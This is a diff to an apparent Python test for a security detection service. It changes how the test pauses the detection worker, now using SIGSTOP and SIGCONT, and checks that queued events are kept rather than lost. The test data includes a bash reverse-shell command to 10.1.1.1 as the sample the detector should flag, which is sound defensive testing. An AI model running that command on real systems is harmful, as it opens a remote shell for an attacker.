@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import os
+import signal
 import time
 from pathlib import Path
 
@@ -100,16 +102,10 @@ def test_full_detection_queue_makes_ingest_wait_and_loses_nothing(tmp_path: Path
         await hooks.start()
         hello = Hello(PROTOCOL_VERSION, "1", "h", "Linux", "6", {}, [], -1)
         await hooks.on_hello("h", hello, "peer")
-        # Hold detection up: its engine answers only after the gate opens.
-        gate = asyncio.Event()
-        loop = asyncio.get_running_loop()
-        real_match = engine.match
-
-        def slow_match(ev):
-            asyncio.run_coroutine_threadsafe(gate.wait(), loop).result(10)
-            return real_match(ev)
-
-        engine.match = slow_match  # type: ignore[method-assign]
+        # Hold detection up: the worker process is stopped until the gate opens.
+        worker = hooks.worker_pid
+        assert worker is not None
+        os.kill(worker, signal.SIGSTOP)
         bad = [_exec("bash -i >& /dev/tcp/10.1.1.1/9 0>&1", 100 + i) for i in range(3)]
         first = asyncio.create_task(hooks.commit_batch("h", 1, [bad[0]], 0))
         assert await first
@@ -119,7 +115,7 @@ def test_full_detection_queue_makes_ingest_wait_and_loses_nothing(tmp_path: Path
         await asyncio.sleep(0.3)
         assert not third.done()  # the ack waits for detection room
         assert len(store.search_events(host_id="h").events) == 3  # but it is stored already
-        gate.set()
+        os.kill(worker, signal.SIGCONT)
         assert await asyncio.wait_for(third, 10)
         await asyncio.wait_for(hooks.drained(), 10)
         got = [await asyncio.wait_for(sub.next(), 5) for _ in range(3)]
